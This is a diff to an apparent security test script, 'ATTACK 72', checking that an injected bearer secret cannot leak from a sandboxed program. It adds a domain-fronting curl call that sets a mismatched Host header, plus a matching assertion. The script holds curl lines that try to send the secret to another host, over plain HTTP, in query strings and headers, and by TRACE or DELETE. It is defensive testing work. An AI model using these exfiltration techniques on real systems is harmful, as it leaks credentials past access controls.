@@ -1,7 +1,7 @@
 #!/usr/bin/python3 -B
 # SPDX-License-Identifier: Apache-2.0
 # TIMEOUT: 240
-# ATTACK 72: get at a secret that is put into requests: have the server say it again, send it to another path, another host, by another method, in another header, twice, over plain HTTP
+# ATTACK 72: get at a secret that is put into requests: have the server say it again, send it to another path, another host, by another method, in another header, twice, to another host by its Host inside TLS, over plain HTTP
 # MUST: the value is in the one header of the requests that the rule lets through, and comes back nowhere
 # CONTROL: net-mask,net-requests
 """A program inside has a placeholder, and everything else is as the rule says."""
@@ -29,6 +29,7 @@ curl('-H', bearer, '-X', 'TRACE', api + '/v1/x')
 curl('-H', bearer, '-X', 'DELETE', api + '/v1/x')
 curl('-H', 'X-Other: ' + key, '-d', key, '-X', 'GET', api + '/v1/x?key=' + key)
 curl('-H', bearer, '-H', 'AUTHORIZATION: ' + key, api + '/v1/x')
+curl('-H', bearer, '-H', 'Host: www.example.org', api + '/v1/fronted')
 curl('-H', bearer, other + '/')
 curl('-H', bearer, '-L', api + '/v1/to')
 curl('-H', bearer, plain + '/')
@@ -52,6 +53,7 @@ shown = attack.run(options, SCRIPT, f"https://{API}:{api.port}", f"https://{OTHE
 attack.must(VALUE not in shown, "an answer has it")
 attack.must(all(path.startswith("/v1/") and method == "GET" for method, path, _, _ in api.seen), "another path, or method")
 attack.must(not any(VALUE in repr((path, body, {k: v for k, v in headers.items() if k != "authorization"})) for _, path, headers, body in api.seen), "another place")
+attack.must(all(headers["host"].startswith(API) for _, _, headers, _ in api.seen), "another host behind the same name")
 attack.must(not any(VALUE in repr(seen) for seen in other.seen), "another host")
 attack.must(not any(VALUE in repr(seen) for seen in web.seen), "plain HTTP")
 attack.end(any(headers.get("authorization") == f"Bearer {VALUE}" for _, _, headers, _ in api.seen), "not even the right request had it")
